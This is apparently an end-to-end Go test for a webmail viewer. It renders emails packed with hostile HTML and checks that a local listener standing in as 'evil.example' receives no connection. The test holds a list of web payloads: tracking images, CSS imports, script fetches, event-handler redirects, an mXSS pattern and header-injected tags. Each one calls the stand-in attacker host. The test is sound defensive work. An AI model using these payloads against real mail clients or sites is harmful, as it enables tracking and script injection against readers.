package e2e

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// ear is a listener that must hear nothing: each connection counts, whatever it says.
type ear struct {
	l     net.Listener
	mu    sync.Mutex
	heard []string
}

func listen(t *testing.T) *ear {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &ear{l: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetReadDeadline(time.Now().Add(2 * time.Second))
				b := make([]byte, 200)
				n, _ := c.Read(b)
				line, _, _ := strings.Cut(string(b[:n]), "\r\n")
				e.mu.Lock()
				e.heard = append(e.heard, "connection: "+line)
				e.mu.Unlock()
				io.WriteString(c, "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
			}()
		}
	}()
	return e
}

func (e *ear) all() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]string(nil), e.heard...)
}

// tricks are what mail does to be loaded, run or followed. EVIL is the listener.
var tricks = []string{
	`<img src="http://EVIL/img">`,
	`<img srcset="http://EVIL/srcset 1x, http://EVIL/srcset2 2x">`,
	`<picture><source srcset="http://EVIL/picture"><img src="http://EVIL/picture2"></picture>`,
	`<link rel="stylesheet" href="http://EVIL/css">`,
	`<link rel="preload" as="image" href="http://EVIL/preload"><link rel="prefetch" href="http://EVIL/prefetch">`,
	`<link rel="icon" href="http://EVIL/icon">`,
	`<style>@import url("http://EVIL/import"); body { background: url(http://EVIL/bg) } @font-face { font-family: f; src: url(http://EVIL/font) } p { font-family: f }</style>`,
	`<p style="background-image:url(http://EVIL/inline); list-style: url(http://EVIL/list); cursor: url(http://EVIL/cur), auto">text in style</p>`,
	`<table background="http://EVIL/table"><tr><td background="http://EVIL/td">cell</td></tr></table>`,
	`<iframe src="http://EVIL/frame"></iframe><iframe srcdoc="<img src=http://EVIL/srcdoc>"></iframe>`,
	`<object data="http://EVIL/object"></object><embed src="http://EVIL/embed">`,
	`<svg><image href="http://EVIL/svg"/><use href="http://EVIL/use#a"/><style>@import url(http://EVIL/svgcss)</style></svg>`,
	`<video autoplay poster="http://EVIL/poster" src="http://EVIL/video"></video><audio autoplay src="http://EVIL/audio"></audio>`,
	`<meta http-equiv="refresh" content="0;url=http://EVIL/refresh">`,
	`<base href="http://EVIL/base/"><img src="relative">`,
	`<form id="f" action="http://EVIL/form"><input name="a" autofocus onfocus="this.form.submit()"></form>`,
	`<script>fetch("http://EVIL/fetch"); top.location = "http://EVIL/top"; new Image().src = "http://EVIL/js"</script>`,
	`<script src="http://EVIL/script"></script><script type="module">import "http://EVIL/module"</script>`,
	`<img src="x" onerror="location='http://EVIL/onerror'"><svg onload="location='http://EVIL/onload'"></svg>`,
	`<body onload="location='http://EVIL/body'" background="http://EVIL/bodybg">`,
	`<details open ontoggle="location='http://EVIL/toggle'"><summary>s</summary></details>`,
	`<a href="http://EVIL/ping" ping="http://EVIL/pinged" autofocus>link</a>`,
	`<input type="image" src="http://EVIL/input"><button formaction="http://EVIL/button" autofocus>b</button>`,
	`<math><mtext><table><mglyph><style><img src="http://EVIL/mxss"></style></mglyph></table></mtext></math>`,
	`<noscript><img src="http://EVIL/noscript"></noscript><template><img src="http://EVIL/template"></template>`,
	`<img src="//EVIL/schemeless"><img src="\\EVIL\backslash"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://EVIL/data'/></svg>">`,
}

// connecting are tricks that open a connection and load nothing: no policy stops them, only that they are taken out.
var connecting = []string{`<link rel="preconnect" href="http://EVIL/"><link rel="dns-prefetch" href="//EVIL">`}

func hostileMail(html, evil string) []byte {
	return []byte("From: \"<img src=http://" + evil + "/from>\" <a@evil.example>\r\nTo: b@acme.example\r\nSubject: <script src=http://" + evil + "/subject></script>\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n" +
		"--a\r\nContent-Type: text/plain\r\n\r\n<img src=http://" + evil + "/text> http://" + evil + "/plain\r\n" +
		"--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + "<p>the end is seen</p>\r\n--a--\r\n" +
		"--b\r\nContent-Type: image/svg+xml; name=\"<img src=http://" + evil + "/name>.svg\"\r\nContent-Disposition: inline; filename=\"<img src=http://" + evil + "/name>.svg\"\r\n\r\n" +
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('http://" + evil + "/part')</script></svg>\r\n--b--\r\n")
}

func TestHostileMailIsSilent(t *testing.T) {
	e := listen(t)
	evil := "evil.example:" + fmt.Sprint(e.l.Addr().(*net.TCPAddr).Port)
	b := openTab(t, "MAP evil.example 127.0.0.1")
	m := newMailbox(t)
	url := site(t, m)
	var ids []string
	for _, trick := range append(append(append([]string{}, tricks...), connecting...), strings.Join(append(tricks, connecting...), "\n")) {
		ids = append(ids, m.add(t, noon, hostileMail(strings.ReplaceAll(trick, "EVIL", evil), evil)).String())
	}
	b.do(chromedp.Navigate(url + "/"))
	for _, id := range ids {
		b.do(chromedp.Navigate(url+"/message/"+id), chromedp.WaitVisible(chromedp.CSS("iframe.html")))
		frames, err := chromedp.Run(b.ctx, chromedp.Nodes(chromedp.CSS("iframe.html")))
		if err != nil {
			t.Fatal(err)
		}
		text, err := chromedp.Run(b.ctx, chromedp.Text(chromedp.CSS("body"), chromedp.FromNode(frames[0])))
		if err != nil || !strings.Contains(text, "the end is seen") {
			t.Errorf("%s: the frame shows %q, %v", id, text, err)
		}
		if at := eval[string](b, `location.pathname`); at != "/message/"+id {
			t.Errorf("the page went to %s", at)
		}
	}
	b.quiet()

	// The second line of defence: the same HTML as it was sent, in the same frame under the same policy, is as silent.
	b.bare(t, url+"/message/"+ids[0]+"/html", strings.ReplaceAll(strings.Join(tricks, "\n"), "EVIL", evil))

	for _, heard := range e.all() {
		t.Errorf("the listener heard %s", heard)
	}
	// The listener does hear what a page loads: without this the test could not fail.
	control := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<img src="http://%s/control">`, evil)
	}))
	defer control.Close()
	b.do(chromedp.Navigate(control.URL))
	if heard := strings.Join(e.all(), " "); !strings.Contains(heard, "/control") {
		t.Errorf("the listener is deaf: %q", heard)
	}
}

// bare shows raw HTML in a sandboxed frame with the policy that a message's frame has.
func (b *tab) bare(t *testing.T, like, raw string) {
	t.Helper()
	res, err := http.Get(like)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path == "/raw" {
			w.Header().Set("Content-Security-Policy", res.Header.Get("Content-Security-Policy"))
			io.WriteString(w, raw+"<p>the end is seen</p>")
			return
		}
		io.WriteString(w, `<iframe src="/raw" sandbox=""></iframe>`)
	}))
	defer srv.Close()
	b.do(chromedp.Navigate(srv.URL))
	b.until(`document.readyState === "complete"`)
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) { // until the frame was read: then it was refused something
		b.mu.Lock()
		refused := len(b.console)
		b.mu.Unlock()
		if refused > 10 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the policy refused only %d times: was the frame read?", refused)
		}
	}
}
